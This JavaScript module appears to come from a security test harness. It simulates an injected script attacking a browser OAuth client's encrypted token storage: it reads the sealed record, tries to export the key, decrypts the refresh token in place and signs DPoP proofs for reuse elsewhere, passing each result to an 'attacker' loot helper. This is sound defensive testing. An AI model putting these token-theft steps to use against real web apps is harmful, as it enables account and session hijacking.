// What a script can do with a sealed record: read it, try to have its key, open it in place, and sign proofs to
// take along with what was in it.
import { loot } from "./attacker.js";
import { memories } from "./stored.js";

const { tw } = window;

/** The entry as it is stored: a key and bytes. */
async function entry() {
  const { clientId } = tw.settings.options;
  return (await memories()).find(
    ([name]) => name.startsWith("sealed ") && name.includes(` ${clientId}\n`),
  );
}

/** Takes the bytes as they are stored, and shows that it has them. */
export async function read(attack) {
  const [name, [, bytes]] = await entry();
  loot(attack, [name, bytes, new TextDecoder("latin1").decode(bytes)]);
  return bytes.length;
}

/** Tries to have the key in every form. */
export async function exportKey(attack) {
  const [, [key]] = await entry();
  const named = (trying) =>
    trying.then(
      (had) => [had],
      ({ name }) => name,
    );
  const wrapping = await crypto.subtle.generateKey({ name: "AES-GCM", length: 256 }, true, [
    "wrapKey",
  ]);
  const outcomes = [];
  for (const format of ["raw", "jwk"]) {
    outcomes.push(await named(crypto.subtle.exportKey(format, key)));
    const algorithm = { name: "AES-GCM", iv: new Uint8Array(12) };
    outcomes.push(await named(crypto.subtle.wrapKey(format, key, wrapping, algorithm)));
  }
  outcomes.push(
    await named(
      Promise.resolve().then(() => {
        window.postMessage(key, "*");
        return JSON.stringify(key);
      }),
    ),
  );
  loot(attack, outcomes);
  return outcomes;
}

/** Opens the record where it is, with its own key. */
export async function open(attack) {
  const { issuer, clientId } = tw.settings.options;
  const [name, [key, bytes]] = await entry();
  const jkt = await thumbprint();
  const bound = [location.origin, `${issuer} ${clientId}`, name.split("\n")[1], jkt].join("\n");
  const plain = await crypto.subtle.decrypt(
    {
      name: "AES-GCM",
      iv: bytes.slice(1, 13),
      additionalData: new TextEncoder().encode(bound),
    },
    key,
    bytes.slice(13),
  );
  const record = JSON.parse(new TextDecoder().decode(plain));
  loot(attack, record);
  return record.refresh_token;
}

async function pair() {
  const { issuer, clientId } = tw.settings.options;
  const found = (await memories()).find(([name]) => name === `key ${issuer} ${clientId}`);
  return found?.[1];
}

async function thumbprint() {
  const keys = await pair();
  if (!keys) return "";
  const { crv, kty, x, y } = await crypto.subtle.exportKey("jwk", keys.publicKey);
  const text = JSON.stringify({ crv, kty, x, y });
  return encoded(
    new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text))),
  );
}

function encoded(bytes) {
  return btoa(String.fromCharCode(...bytes))
    .replaceAll("+", "-")
    .replaceAll("/", "_")
    .replaceAll("=", "");
}

/** Signs proofs for the token endpoint, to be used elsewhere. */
export async function signProofs(attack, url, count) {
  const { privateKey, publicKey } = await pair();
  const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", publicKey);
  const text = new TextEncoder();
  const header = { typ: "dpop+jwt", alg: "ES256", jwk: { kty, crv, x, y } };
  const proofs = [];
  for (let at = 0; at < count; at += 1) {
    const jti = encoded(crypto.getRandomValues(new Uint8Array(12)));
    const claims = { htm: "POST", htu: url, iat: Math.floor(Date.now() / 1000), jti };
    const signed = [header, claims]
      .map((part) => encoded(text.encode(JSON.stringify(part))))
      .join(".");
    const algorithm = { name: "ECDSA", hash: "SHA-256" };
    const signature = await crypto.subtle.sign(algorithm, privateKey, text.encode(signed));
    proofs.push(`${signed}.${encoded(new Uint8Array(signature))}`);
  }
  loot(attack, proofs);
  return proofs;
}
